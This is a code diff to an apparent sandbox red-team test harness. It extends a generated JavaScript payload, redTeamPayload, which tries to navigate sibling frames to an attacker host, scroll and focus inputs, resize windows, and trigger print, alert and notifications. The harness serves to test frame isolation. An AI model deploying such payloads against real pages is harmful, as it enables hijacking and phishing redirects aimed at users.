@@ -153,7 +153,7 @@ export function hostilePayload(attacker: string): string {
  *  - back: on every click, history.back() (the entry before it is the page's own);
  *  - history: on every click, 50 history.pushState, then history.back(), history.go(-1), go(-2);
  *  - misc: on every click, the clipboard (read, write, execCommand('copy')), the opener and the page's
- *    other frames (navigating them), scrolling the page (scrollIntoView, focus), print(), alert(),
+ *    other frames (navigating them), scrolling or resizing the page (scrollIntoView, focus, resizeTo), print(), alert(),
  *    notifications; and any text dropped on it.
  */
 export function redTeamPayload(attacker: string): string {
@@ -226,6 +226,8 @@ export function redTeamPayload(attacker: string): string {
       for (var k = 0; k < top.length; k++) (function (k) { attempt('SIBLING navigate', function () { if (top.frames[k] !== window) top.frames[k].location.href = A + '/sibling'; }); })(k);
       attempt('SCROLL', function () { document.documentElement.scrollIntoView(); var i = document.querySelector('textarea, input'); if (i) { i.scrollIntoView({ block: 'end' }); i.focus(); } });
       attempt('TOPSCROLL', function () { top.scrollTo(0, 0); });
+      attempt('TOPRESIZE', function () { top.resizeTo(200, 200); });
+      attempt('RESIZE', function () { window.resizeTo(5000, 5000); return innerWidth + 'x' + innerHeight; });
       attempt('PRINT', function () { window.print(); });
       attempt('ALERT', function () { alert('x'); });
       try { Notification.requestPermission().then(function (p) { log('NOTIFY ' + p); }); } catch (e) { log('NOTIFY ' + e.name); }
